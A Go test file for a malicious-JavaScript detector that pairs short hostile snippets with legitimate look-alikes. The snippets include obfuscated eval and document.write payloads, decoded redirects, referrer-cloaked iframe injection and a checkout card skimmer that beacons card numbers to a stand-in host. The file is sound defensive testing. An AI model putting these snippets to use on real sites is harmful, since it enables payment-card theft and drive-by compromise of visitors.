package detect

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// The shape signals on small hostile snippets written for the test (not
// taken from a sample), each beside the legitimate code closest to it.
func TestShapeSignals(t *testing.T) {
	for _, c := range []struct {
		name, src string
		rule      string // "" = no shape rule
	}{
		{"reversed syllable arrays", `function r(a){return a.join("").split("").reverse().join("")}
var s = String[r(["edo","Cr","ahC","mo","rf"])](72); this[r(["tn","em","uc","od"])].title = s;`, "fragmented-names"},
		{"padded pieces", `var w = this[j(["w"+("")+"i","n"+("")+"d","o"+("")+"w"])]; var b = ["b","o"+("")+"d","y"];`, "fragmented-names"},
		{"reversed literals", `var e = window["lave".split("").reverse().join("")]; e(document["etirw"]);`, "fragmented-names"},
		{"obfuscator.io shape", `var _0x3f2a=['\x6c\x6f\x67','\x48\x65\x6c\x6c\x6f'];(function(_0x1b2c3d,_0x4e5f60){var _0x7a8b9c=function(_0x1d2e3f){while(--_0x1d2e3f){_0x1b2c3d['push'](_0x1b2c3d['shift']());}};_0x7a8b9c(++_0x4e5f60);}(_0x3f2a,0x1f4));
var _0x5a6b=function(_0x1b2c3d,_0x4e5f60){_0x1b2c3d=_0x1b2c3d-0x0;var _0x7a8b9c=_0x3f2a[_0x1b2c3d];return _0x7a8b9c;};console[_0x5a6b('0x0')](_0x5a6b('0x1'));var _0x1111=_0x5a6b,_0x2222=_0x5a6b,_0x3333=_0x1111;`, "obfuscator-shape"},
		{"escape-dense payload", `var p = "` + strings.Repeat(`\x3c\x69\x66\x72\x61\x6d\x65\x20`, 20) + `"; document.write(p);`, "escape-dense"},
		{"charcode cipher", `var k="` + strings.Repeat("Zq3xTr9Lp2", 10) + `",o="";for(var i=0;i<k.length;i++){o+=String.fromCharCode(k.charCodeAt(i)^7)}eval(o);`, "charcode-cipher"},
		{"decoded literal written", `document.write(unescape("%3c%69%66%72%61%6d%65%20%73%72%63%3d%22%68%74%74%70%3a%2f%2f%65%76%69%6c%2e%65%78%22%3e"));`, "decoded-sink"},
		{"decoded literal run", `eval(atob("dmFyIHM9ZG9jdW1lbnQuY3JlYXRlRWxlbWVudCgnc2NyaXB0Jyk7cy5zcmM9J2h0dHA6Ly9ldmlsJw=="));`, "decoded-sink"},
		{"decoded redirect", `if (x) window.location.href = atob("aHR0cDovL2V2aWwuZXhhbXBsZS9nYXRlLnBocA==");`, "decoded-redirect"},
		{"referrer and IE gate", `var r=document.referrer,u=navigator.userAgent;if(/google|bing\.|yahoo/.test(r)&&u.indexOf("MSIE")>0){var f=document.createElement("iframe");f.src="http://tds.example/in.cgi?3";document.body.appendChild(f)}`, "cloaked-injection"},
		{"search referrer cloaking", `if (/google\.|bing\.|yahoo\./i.test(document.referrer)) { window.location.href = "http://pills.example.biz/?q=" + kw; }`, "cloaked-injection"},
		{"xxtea then run", `var d=0x9E3779B9,k="` + strings.Repeat("a1B2c3D4e5", 12) + `";function x(v){/* ... */return String.fromCharCode.apply(null,v)}eval(x(k));`, "charcode-cipher"},
		{"cookie gate", `if(document.cookie.indexOf("_seen=")==-1){document.cookie="_seen=1;path=/";var s=document.createElement("script");s.src="https://cdn.example.net/x.js";document.head.appendChild(s)}`, "gated-injection"},
		{"many _0x names", strings.Repeat("var _0x1a2b3c=_0x4d5e6f(1);", 12), "hex-identifiers"},
		{"escaped text", `var m = "\x48\x65\x6c\x6c\x6f\x20\x77\x6f\x72\x6c\x64\x21\x48\x65\x6c\x6c\x6f\x20\x77\x6f\x72\x6c\x64\x21\x48\x65\x6c\x6c\x6f"; console.log(m);`, "escape-moderate"},
		{"web skimmer", `if (location.href.indexOf("checkout") > -1) { document.querySelector("button").addEventListener("click", function () {
var d = {n: document.getElementById("cc_number").value, c: document.getElementById("cc_cid").value, e: document.getElementById("cc_exp_month").value};
new Image().src = "https://cdn-analytic.example/i.gif?d=" + btoa(JSON.stringify(d)); }); }`, "card-skimmer"},
		// Legitimate look-alikes.
		{"utf-16 surrogates", `function cp(c){c-=0x10000;return String.fromCharCode(0xD800+(c>>10),0xDC00+(c&0x3FF))} eval(s)`, ""},
		{"base64 decoder", `function d(s){var o="",i=0;for(;i<s.length;i+=4){o+=String.fromCharCode((a<<2)|(b>>4))}return o}`, ""},
		{"hidden e-mail address", `document.write(unescape("%3C%61%20%68%72%65%66%3D%22%6D%61%69%6C%74%6F%3A%6A%6F%65%40%65%78%61%6D%70%6C%65%2E%6F%72%67%22%3E%6A%6F%65%3C%2F%61%3E"));`, "decoded-write"},
		{"char-code e-mail", `document.write(String.fromCharCode(106,111,101,64,101,120,97,109,112,108,101,46,111,114,103));`, "decoded-write"},
		{"char-code script", `document.write(String.fromCharCode(60,115,99,114,105,112,116,32,115,114,99,61,104,116,116,112,58,47,47,120,62));`, "decoded-sink"},
		{"analytics snippet", `document.write(unescape("%3Cscript src='" + gaJsHost + "google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"));`, ""},
		{"word arrays", `var days = ["Sun","Mon","Tue","Wed"], keys = ["top","body","left"]; var m = ["e","v"];`, ""},
		{"card form validation", `form.addEventListener("submit", function (e) { var n = document.getElementById("card-number").value, c = document.getElementById("cvc").value;
if (!luhn(n)) { e.preventDefault(); return; } fetch("/api/pay", {method: "POST", body: JSON.stringify({n: n, c: c})}); });`, ""},
		{"xxtea library", `function encrypt(v,k){var delta=0x9E3779B9,sum=0;/* rounds */return v} function toStr(a){return String.fromCharCode.apply(null,a)}`, ""},
		{"IE sniffing", `var ie = navigator.userAgent.indexOf("MSIE") > -1; if (ie) { document.body.className += " ie"; } var f = document.createElement("iframe"); f.style.display = "none";`, ""},
		{"navigation from a parameter", `location.href = decodeURIComponent(params.get("next")); if (location.href === x) {}`, ""},
		{"referrer analytics", `var ref = document.referrer; var engines = ["google", "bing.", "yahoo"]; img.src = "/beacon?r=" + encodeURIComponent(ref);`, ""},
	} {
		f := Analyze(c.src)
		rules := f.shapeRules()
		if c.rule == "" && len(rules) != 0 {
			t.Errorf("%s: rules %v on legitimate code (%+v)", c.name, rules, f.shape)
		}
		if c.rule != "" && !slices.Contains(rules, c.rule) {
			t.Errorf("%s: rules %v, want %s (%+v)", c.name, rules, c.rule, f.shape)
		}
	}
	w := DefaultWeights()
	for _, r := range []string{"fragmented-names", "obfuscator-shape", "escape-dense", "charcode-cipher", "decoded-sink", "decoded-write", "decoded-redirect", "gated-injection", "cloaked-injection", "hex-identifiers", "escape-moderate"} {
		if !strings.Contains(string(defaultWeights), "    "+r+":") {
			t.Errorf("%s: no weight in weights.yaml", r)
		}
		switch r {
		case "gated-injection", "decoded-write", "hex-identifiers", "escape-moderate":
			if w.Score("script", r, 0) >= w.Suspicious {
				t.Errorf("%s is weak evidence: alone it must not make a page suspicious", r)
			}
		}
	}
}

// The JavaScript this machine's packages ship (Debian's, Node's, Go's and
// Rust's documentation, Python's) is legitimate: no script rule may fire on
// it. Skipped where none is installed.
func TestShapeBenignLibraries(t *testing.T) {
	if testing.Short() {
		t.Skip("reads every installed .js file")
	}
	n := 0
	for _, root := range []string{"/usr/share/javascript", "/usr/share/nodejs", "/usr/lib/node_modules", "/usr/share/doc", "/root/.rustup/toolchains", "/usr/local/go/src", "/usr/local/go/misc"} {
		filepath.WalkDir(root, func(p string, d os.DirEntry, err error) error {
			if err != nil || d.IsDir() || !strings.HasSuffix(p, ".js") || strings.Contains(p, "/testdata/") {
				return nil
			}
			b, err := os.ReadFile(p)
			if err != nil {
				return nil
			}
			n++
			if rs := Analyze(string(b)).Rules(); len(rs) > 0 {
				t.Errorf("%s: %v", p, rs)
			}
			return nil
		})
	}
	if n == 0 {
		t.Skip("no installed JavaScript")
	}
	t.Logf("%d legitimate scripts, no rule", n)
}
